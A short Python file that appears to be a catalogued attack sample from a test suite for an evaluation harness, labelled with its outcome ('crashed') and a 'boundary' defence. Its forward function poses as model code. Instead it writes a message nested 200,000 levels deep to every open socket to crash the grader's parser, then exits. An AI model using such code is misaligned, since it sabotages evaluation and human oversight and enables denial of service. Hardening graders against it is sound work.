# what: Send the grader a reply that is nested deeper than any reader's stack.
# verdict: crashed
# breach: collapse: the grader ends without a word
# defence: boundary
import os
import stat

DEPTH = 200000


def forward(x, w1, w2, b):
    message = b"\x81\xa5value" + b"\x91" * DEPTH + b"\xc0"
    for fd in range(3, 64):
        if is_socket(fd):
            os.write(fd, len(message).to_bytes(4, "big") + message)
    import ast

    # The naive grader has no channel; its stack is ours to end.
    ast.parse("x")
    os._exit(0)


def is_socket(descriptor):
    try:
        return stat.S_ISSOCK(os.fstat(descriptor).st_mode)
    except OSError:
        return False
